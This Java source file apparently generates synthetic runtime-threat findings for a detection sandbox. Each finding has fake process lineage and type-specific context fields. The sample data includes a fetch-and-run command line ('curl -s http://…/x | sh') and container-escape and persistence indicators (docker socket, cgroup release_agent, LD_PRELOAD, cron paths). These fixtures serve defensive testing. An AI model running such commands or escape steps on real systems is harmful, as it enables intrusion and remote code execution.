package io.guardlake.sandbox.generator;

import java.io.IOException;
import java.time.Instant;
import java.util.List;

/** {@code service.runtimeDetails}: a process, its ancestors, and what it did. */
final class RuntimeBlock {
  private RuntimeBlock() {}

  static void write(Json json, Scene scene) throws IOException {
    Dice dice = scene.latest();
    json.object(
        "runtimeDetails",
        details -> {
          details.object(
              "process", process -> process(process, scene, scene.process(), dice.between(1, 5)));
          details.object("context", context -> context(context, scene));
        });
  }

  private static void process(Json json, Scene scene, String name, int ancestors)
      throws IOException {
    Dice dice = scene.latest();
    Instant started = scene.moment().updatedAt().minusMillis(dice.between(60_000, 9_000_000));
    int user = dice.chance(0.5) ? 0 : 1000;
    json.text("name", name);
    json.text("executablePath", "/usr/bin/" + name);
    json.text("executableSha256", dice.hex(64));
    json.number("namespacePid", dice.between(1, 400));
    json.text("pwd", "/tmp");
    json.number("pid", dice.between(400, 32_767));
    json.decimal("startTime", Scene.epochSeconds(started));
    json.text("uuid", dice.hex(32));
    json.text("parentUuid", dice.hex(32));
    json.text("user", user == 0 ? "root" : "app");
    identifiers(json, user, dice.chance(0.15));
    json.array(
        "lineage",
        lineage -> {
          for (int ancestor = 0; ancestor < ancestors; ancestor++) {
            Instant earlier = started.minusSeconds(60L * (ancestor + 1));
            lineage.element(one -> ancestor(one, dice, earlier));
          }
        });
  }

  /** Numbers by the SDK's model, and strings in some exports. */
  private static void identifiers(Json json, int user, boolean asText) throws IOException {
    if (asText) {
      json.text("userId", Integer.toString(user)).text("euid", Integer.toString(user));
      return;
    }

    json.number("userId", user).number("euid", user);
  }

  private static void ancestor(Json json, Dice dice, Instant started) throws IOException {
    String name = dice.pick(List.of("bash", "containerd-shim", "runc", "systemd", "sshd"));
    json.decimal("startTime", Scene.epochSeconds(started));
    json.number("namespacePid", dice.between(1, 400));
    json.number("userId", 0);
    json.text("name", name);
    json.number("pid", dice.between(1, 32_767));
    json.text("uuid", dice.hex(32));
    json.text("executablePath", "/usr/bin/" + name);
    json.number("euid", 0);
    json.text("parentUuid", dice.hex(32));
  }

  private static void context(Json json, Scene scene) throws IOException {
    String type = scene.kind().type();
    Dice dice = scene.latest();

    if (type.contains("ProcessInjection")) {
      json.object("targetProcess", target -> process(target, scene, "sshd", 0));
      json.texts("memoryRegions", List.of("7f2c1d000000-7f2c1d021000"));
    } else if (type.contains("ReverseShell")) {
      json.text("addressFamily", "AF_INET").number("ianaProtocolNumber", 6);
      json.text("socketPath", "").text("scriptPath", "/tmp/." + dice.alphanumeric(6) + ".sh");
    } else if (type.contains("NewBinary") || type.contains("RuncContainer")) {
      json.object("modifyingProcess", modifier -> process(modifier, scene, "curl", 0));
      json.text("modifiedAt", Scene.millis(scene.moment().updatedAt().minusSeconds(600)));
      json.text("runcBinaryPath", "/usr/bin/runc");
    } else if (type.contains("NewLibrary")) {
      json.text("libraryPath", "/tmp/lib" + dice.alphanumeric(5) + ".so");
      json.text("ldPreloadValue", "/tmp/lib" + dice.alphanumeric(5) + ".so");
    } else if (type.contains("KernelModule")) {
      json.text("moduleName", "diag").text("moduleFilePath", "/opt/diag.ko");
      json.text("moduleSha256", dice.hex(64));
    } else if (type.contains("Mounts")) {
      json.text("mountSource", "/dev/nvme0n1p1").text("mountTarget", "/host");
      json.text("fileSystemType", "xfs").texts("flags", List.of("MS_REC", "MS_BIND"));
    } else if (type.contains("Docker")) {
      json.text("socketPath", "/var/run/docker.sock");
    } else if (type.contains("CGroups")) {
      json.text("releaseAgentPath", "/sys/fs/cgroup/rdma/release_agent");
    } else if (type.contains("Tool")) {
      json.text("toolName", "nmap").text("toolCategory", "Reconnaissance");
    } else if (type.contains("Command")) {
      json.text("commandLineExample", "curl -s http://" + scene.domain() + "/x | sh");
      json.text("serviceName", "cron").text("shellHistoryFilePath", "/home/ubuntu/.bash_history");
    } else if (type.contains("MaliciousFile")) {
      json.text("threatFilePath", "/tmp/" + dice.alphanumeric(8));
      json.text("fileOperation", "EXECUTE").text("filePath", "/tmp/" + dice.alphanumeric(8));
      json.texts("relatedFilePaths", List.of("/etc/cron.d/" + dice.alphanumeric(5)));
    }
  }
}
